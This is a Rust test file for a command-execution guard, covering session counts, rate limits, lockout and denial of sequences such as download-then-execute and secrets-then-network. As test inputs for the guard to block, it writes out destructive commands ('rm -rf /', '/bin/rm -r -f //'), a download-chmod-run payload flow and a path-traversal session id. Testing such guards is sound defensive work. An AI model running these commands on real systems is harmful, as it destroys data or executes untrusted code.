//! Layer 3: per-session state, exact counts under concurrency, rate limits,
//! lockout and the built-in temporal patterns.

use crate::layers_support;

use std::sync::Arc;

use layers_support::*;
use serde_json::Value;

#[test]
fn two_hundred_concurrent_invocations_are_counted_exactly() {
    let env = Arc::new(Env::new());
    env.profile(
        "[guard]\nenabled = true\nmax_commands = 0\nhistory_size = 500\n[audit]\nenabled = true",
    );
    let mut handles = Vec::new();
    for t in 0..8 {
        let env = env.clone();
        handles.push(std::thread::spawn(move || {
            for i in 0..25 {
                let o = env.run(&["--session", "load", "--", "echo", &format!("{t}-{i}")]);
                assert_eq!(code(&o), 0, "{}", stderr(&o));
            }
        }));
    }
    for h in handles {
        h.join().unwrap();
    }
    let s = env.session("load");
    assert_eq!(s["commands"], 200);
    assert_eq!(s["allowed"], 200);
    assert_eq!(s["denied"], 0);
    assert_eq!(s["history"].as_array().unwrap().len(), 200);
    // Decision + result per command: 400 lines, each valid JSON.
    let audit = env.audit();
    assert_eq!(audit.len(), 400);
    let decisions: Vec<&Value> = audit.iter().filter(|r| r["kind"] == "decision").collect();
    let results: Vec<&Value> = audit.iter().filter(|r| r["kind"] == "result").collect();
    assert_eq!((decisions.len(), results.len()), (200, 200));
    let mut ids: Vec<&str> = decisions
        .iter()
        .map(|r| r["id"].as_str().unwrap())
        .collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), 200, "ids are unique");
    assert!(results.iter().all(|r| r["exit_code"] == 0));
}

#[test]
fn session_from_flag_env_or_default() {
    let env = Env::new();
    env.profile("[guard]\nenabled = true");
    assert_eq!(code(&env.run(&["--session", "flag", "--", "true"])), 0);
    let mut c = env.cmd();
    c.env("SAFE_EXEC_SESSION", "from-env")
        .arg("--profile")
        .arg(env.path("profile.toml"))
        .args(["--", "true"]);
    assert_eq!(code(&c.output().unwrap()), 0);
    assert_eq!(code(&env.run(&["--", "true"])), 0);
    assert_eq!(
        code(&env.run(&["--session", "../../etc/x", "--", "true"])),
        0
    );
    for s in ["flag", "from-env", "default"] {
        assert_eq!(env.session(s)["commands"], 1, "{s}");
    }
    let names: Vec<String> = std::fs::read_dir(env.state().join("sessions"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        names
            .iter()
            .any(|n| n.starts_with("x-") && n.ends_with(".json")),
        "unsafe ids are encoded: {names:?}"
    );
}

#[test]
fn rate_limit_denies_past_the_window_budget() {
    let env = Env::new();
    env.profile("[guard]\nenabled = true\nmax_commands = 3\nwindow_seconds = 60");
    for _ in 0..3 {
        assert_eq!(code(&env.run(&["--session", "r", "--", "true"])), 0);
    }
    let o = env.run(&["--session", "r", "--", "true"]);
    assert_eq!(code(&o), 126);
    assert!(stderr(&o).contains("guard.rate_limit"), "{}", stderr(&o));
    assert_eq!(env.session("r")["commands"], 4);
}

#[test]
fn denials_lock_the_session_out() {
    let env = Env::new();
    env.profile(
        "[guard]\nenabled = true\nmax_denials = 2\nlockout_seconds = 60\nbuiltin_patterns = false",
    );
    assert_eq!(code(&env.run(&["--session", "l", "-c", "rm -rf /"])), 126);
    assert_eq!(
        code(&env.run(&["--session", "l", "-c", "rm -rf /etc"])),
        126
    );
    let o = env.run(&["--session", "l", "--", "true"]);
    assert_eq!(code(&o), 126, "locked out");
    assert!(stderr(&o).contains("locked out"), "{}", stderr(&o));
    // Another session is not affected.
    assert_eq!(code(&env.run(&["--session", "other", "--", "true"])), 0);
    let s = env.session("l");
    assert_eq!(s["denied"], 3);
    assert!(s["lockout_until_ms"].is_u64());
}

#[test]
fn retry_in_another_spelling_is_denied_naming_the_earlier_command() {
    let env = Env::new();
    env.profile("[guard]\nenabled = true");
    let _ = env.run(&["--session", "x", "-c", "rm -rf /"]);
    let o = env.run(&["--session", "x", "-c", "/bin/rm -r -f //"]);
    assert_eq!(code(&o), 126);
    let e = stderr(&o);
    assert!(
        e.contains("retry_after_deny") && e.contains("`rm -rf /`"),
        "{e}"
    );
    // A different command of the same program is not a retry.
    let o = env.run(&["--session", "x", "--", "rm", "-f", "scratch.txt"]);
    assert!(!stderr(&o).contains("retry_after_deny"), "{}", stderr(&o));
}

#[test]
fn download_then_chmod_then_run_is_denied() {
    let env = Env::new();
    // The built-in `download` class names curl, wget...; the profile adds a
    // program of its own to it (classes are data and add up), because the
    // default policy refuses curl downloads outright.
    env.profile(
        "[policy]\nunknown_commands = \"allow\"\n[guard]\nenabled = true\n[[guard.class]]\nname = \"download\"\nprograms = [\"fetch-tool\"]",
    );
    let _ = env.run(&[
        "--session",
        "d",
        "-c",
        "fetch-tool -sSo payload.sh https://example.com/payload.sh",
    ]);
    std::fs::write(env.path("cwd/payload.sh"), "#!/bin/sh\necho pwned\n").unwrap();
    assert_eq!(
        code(&env.run(&["--session", "d", "--", "chmod", "+x", "payload.sh"])),
        0
    );
    // Unrelated local programs are fine.
    std::fs::write(env.path("cwd/other.sh"), "#!/bin/sh\necho ok\n").unwrap();
    let _ = env.run(&["--session", "d", "--", "chmod", "755", "other.sh"]);
    let o = env.run(&["--session", "d", "--", "./other.sh"]);
    assert_eq!(code(&o), 0, "{}", stderr(&o));
    let o = env.run(&["--session", "d", "--", "./payload.sh"]);
    assert_eq!(code(&o), 126);
    assert_eq!(stdout(&o), "");
    let e = stderr(&o);
    assert!(e.contains("download_then_execute"), "{e}");
    assert!(
        e.contains("fetch-tool -sSo payload.sh") && e.contains("chmod +x payload.sh"),
        "{e}"
    );
}

#[test]
fn secrets_then_network_is_denied() {
    let env = Env::new();
    // The static policy refuses `.env` itself ([paths] secret_names); the
    // guard is tested on its own here.
    env.profile("[paths]\nsecret_names = []\n[guard]\nenabled = true");
    std::fs::write(env.path("cwd/.env"), "API_KEY=x\n").unwrap();
    assert_eq!(code(&env.run(&["--session", "s", "--", "cat", ".env"])), 0);
    let o = env.env_check(&["--session", "s", "--json", "-c", "git push origin main"]);
    assert_eq!(o["decision"], "deny", "{o}");
    assert!(
        o["matched_rules"]
            .as_array()
            .unwrap()
            .iter()
            .any(|r| r == "guard.secrets_then_network")
    );
    assert_eq!(o["decided_by"], "guard");
    // check never records.
    assert_eq!(env.session("s")["commands"], 1);
}

#[test]
fn deletion_burst_asks_and_patterns_are_profile_data() {
    let env = Env::new();
    env.profile(
        "[guard]\nenabled = true\n[[guard.pattern]]\nid = \"deletion_burst\"\ndescription = \"many deletions\"\nkind = \"burst\"\nclass = \"delete\"\ncount = 3\nwithin_seconds = 60\naction = \"ask\"\n",
    );
    for f in ["a", "b"] {
        std::fs::write(env.path(&format!("cwd/{f}")), "").unwrap();
        assert_eq!(code(&env.run(&["--session", "b", "--", "rm", f])), 0);
    }
    let o = env.run(&["--session", "b", "--", "rm", "-f", "c"]);
    assert_eq!(code(&o), 126);
    let e = stderr(&o);
    assert!(
        e.contains("deletion_burst") && e.contains("confirmation"),
        "{e}"
    );
}

#[test]
fn bad_pattern_is_a_profile_error() {
    let env = Env::new();
    env.profile("[guard]\nenabled = true\n[[guard.pattern]]\nid = \"p\"\ndescription = \"d\"\nkind = \"sequence\"\nsteps = [\"nope\"]\nwithin_seconds = 1\naction = \"deny\"\n");
    let o = env.run(&["--", "true"]);
    assert_eq!(code(&o), 125);
    assert!(
        stderr(&o).contains("unknown class `nope`"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn unusable_state_fails_closed() {
    let env = Env::new();
    env.profile("[guard]\nenabled = true");
    std::fs::write(env.path("not-a-dir"), "").unwrap();
    let mut c = env.cmd();
    c.env("SAFE_EXEC_STATE_DIR", env.path("not-a-dir"))
        .arg("--profile")
        .arg(env.path("profile.toml"))
        .args(["--", "echo", "hi"]);
    let o = c.output().unwrap();
    assert_eq!(code(&o), 126);
    assert!(stderr(&o).contains("guard state"), "{}", stderr(&o));
    assert_eq!(stdout(&o), "");
}

#[test]
fn nothing_configured_touches_no_state() {
    // The built-in default keeps only the audit log (on by default) and
    // the directory of the protected files' shared baselines, which holds
    // its lock file alone once no run is active.
    let env = Env::new();
    let o = env.run(&["--", "echo", "hi"]);
    assert_eq!(code(&o), 0);
    let names = |d: &std::path::Path| -> Vec<String> {
        let mut v: Vec<String> = std::fs::read_dir(d)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        v.sort();
        v
    };
    assert_eq!(names(&env.state()), ["audit.jsonl", "protect"]);
    assert_eq!(names(&env.state().join("protect")), ["lock"]);
    // With the audit log off, nothing but the loaded-profile cache of the
    // profile file (`{state}/profiles`, one entry) and the baselines'
    // directory: no guard state.
    let env = Env::new();
    env.profile("[audit]\nenabled = false");
    let o = env.run(&["--", "echo", "hi"]);
    assert_eq!(code(&o), 0);
    assert_eq!(names(&env.state()), ["profiles", "protect"]);
    let entries: Vec<String> = std::fs::read_dir(env.state().join("profiles"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(entries.len(), 1, "{entries:?}");
    assert!(entries[0].ends_with(".json"), "{entries:?}");
}

trait Check {
    fn env_check(&self, args: &[&str]) -> Value;
}

impl Check for Env {
    fn env_check(&self, args: &[&str]) -> Value {
        let o = self
            .cmd()
            .arg("check")
            .arg("--profile")
            .arg(self.path("profile.toml"))
            .args(args)
            .output()
            .unwrap();
        serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("{e}: {}", stderr(&o)))
    }
}
